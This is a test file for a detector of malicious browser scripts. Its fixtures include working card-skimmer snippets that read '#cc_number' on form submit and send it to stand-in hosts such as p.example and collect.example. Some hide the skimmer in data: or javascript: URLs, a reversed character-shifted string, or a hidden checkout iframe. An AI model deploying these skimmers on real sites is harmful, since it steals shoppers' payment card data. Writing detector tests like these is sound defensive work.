import type { Node } from 'acorn'
import { describe, expect, it } from 'vitest'
import { parseStrict } from '../../detector/parse.ts'
import { resolveStatically } from '../../detector/deobfuscate/partial.ts'
import { analyzeScript, layersOf } from '../../detector/index.ts'

// Code and text carried where a first look does not read them: a data: address of JavaScript
// (an import map's, a script's src), a pattern's source text, a card-input component's own form.

const SKIM = `document.addEventListener('submit',function(){new Image().src='https://p.example/g?d='+btoa(document.querySelector('#cc_number').value)})`

describe('code in a data: address', () => {
  it.each([
    ['base64', `data:text/javascript;base64,${Buffer.from(SKIM).toString('base64')}`],
    [
      'percent-encoded, with a charset',
      `data:application/javascript;charset=utf-8,${encodeURIComponent(SKIM)}`,
    ],
  ])('is read as a layer (%s)', (_how, url) => {
    const source = `var s = document.createElement('script'); s.src = ${JSON.stringify(url)}; document.head.appendChild(s)`
    expect(layersOf(source)).toContain(SKIM)
  })

  it('other data: addresses carry no code', () => {
    const url = `data:text/plain;base64,${Buffer.from(SKIM).toString('base64')}`
    expect(layersOf(`fetch(${JSON.stringify(url)})`)).toEqual([])
  })
})

describe('code in a javascript: address', () => {
  it('is read as a layer, percent-decoded', () => {
    const url = `javascript:${encodeURIComponent(SKIM)}`
    const source = `var f = document.createElement('iframe'); document.body.appendChild(f); f.src = ${JSON.stringify(url)}`
    expect(layersOf(source)).toContain(SKIM)
  })

  it("is worked out however long the decoding, and judged: a frame's location sent there", () => {
    // reversed and shifted by one, decoded by a loop over every character
    const hidden = [...SKIM]
      .reverse()
      .map((c) => String.fromCharCode(c.charCodeAt(0) + 1))
      .join('')
    const source = `(function () {
      function un(s) { var o = []; for (var i = 0; i < s.length; i++) o.push(String.fromCharCode(s.charCodeAt(i) - 1)); return o.reverse().join('') }
      if (!/checkout/.test(location.pathname)) return
      var f = document.createElement('iframe'); f.style.display = 'none'; document.body.appendChild(f)
      var go = 'javascript:' + encodeURIComponent(un(${JSON.stringify(hidden)}))
      f.contentWindow.location.href = go
    })()`
    const v = analyzeScript(source, { url: 'https://shop.example/js/cart.js' })
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.rule)).toContain('card-field-read-and-send')
  })

  it('a javascript: address that does nothing is no layer', () => {
    expect(layersOf(`document.querySelector('a').href = 'javascript:void(0)'`)).toEqual([])
  })
})

describe('a pattern read as text', () => {
  it("gives the pattern's source and flags", () => {
    const source = `var u = /https:\\/\\/h\\.example\\/c/.source.replace(/\\\\(.)/g, '$1'); var f = /x/gi.flags; fetch(u + f)`
    const out = resolveStatically(parseStrict(source) as Node, source)?.source
    expect(out).toContain('fetch("https://h.example/cgi")')
  })
})

describe('card values to the host a script comes from', () => {
  const ctx = {
    url: 'https://cdn.vendor.example/w.js',
    pageUrl: 'https://www.shop.example/checkout/',
  }
  const send = (opts: string): string =>
    `document.addEventListener('submit', function () { var n = document.querySelector('#cc_number').value;
      fetch('https://api.vendor.example/v', { method: 'POST', ${opts} body: JSON.stringify({ n: n }) }) })`
  it('sent with keepalive (its answer unread) leave the site; answered, they may be a tokenizer', () => {
    const rules = (src: string): string[] =>
      analyzeScript(src, ctx)
        .findings.filter((f) => f.points >= 30)
        .map((f) => f.rule)
    expect(rules(send('keepalive: true,'))).toContain('card-field-read-and-send')
    expect(rules(send(''))).not.toContain('card-field-read-and-send')
  })
})

describe('a card form written by a script that sends nothing', () => {
  it('is said at a few points: a card-input component renders its own form', () => {
    const form = `'<label>Card number <input name="cardnumber" autocomplete="cc-number"></label>'`
    const quiet = analyzeScript(`this.shadowRoot.innerHTML = ${form}`)
    const f = quiet.findings.find((x) => x.rule === 'fake-payment-form')
    expect(f?.points).toBe(10)
    expect(quiet.verdict).toBe('clean')
    const sends = analyzeScript(`el.innerHTML = ${form}; navigator.sendBeacon(u, d)`)
    expect(sends.findings.find((x) => x.rule === 'fake-payment-form')?.points).toBe(35)
  })
})

describe('carried code and sends, as browsers read them', () => {
  it('a data: address with a stray % or no type is still read', () => {
    const stray = `data:text/javascript,${encodeURIComponent(SKIM)}//%zz`
    expect(
      layersOf(`var s = document.createElement('script'); s.src = ${JSON.stringify(stray)}`)[0],
    ).toContain('cc_number')
    const untyped = `data:;base64,${Buffer.from(SKIM).toString('base64')}`
    expect(
      layersOf(`var s = document.createElement('script'); s.src = ${JSON.stringify(untyped)}`),
    ).toContain(SKIM)
  })

  it('a card form that posts itself to another host is the full finding, sends or not', () => {
    const v = analyzeScript(
      `el.innerHTML = '<form action="https://collect.example/p"><input name="cardnumber"></form>'`,
    )
    expect(v.findings.find((f) => f.rule === 'fake-payment-form')?.points).toBe(35)
  })

  it('keepalive written as !0 is keepalive', () => {
    const ctx = {
      url: 'https://cdn.vendor.example/w.js',
      pageUrl: 'https://www.shop.example/checkout/',
    }
    const v = analyzeScript(
      `document.addEventListener('submit', function () { var n = document.querySelector('#cc_number').value;
        fetch('https://api.vendor.example/v', { method: 'POST', keepalive: !0, body: JSON.stringify({ n: n }) }) })`,
      ctx,
    )
    expect(v.findings.some((f) => f.rule === 'card-field-read-and-send' && f.points >= 30)).toBe(
      true,
    )
  })
})
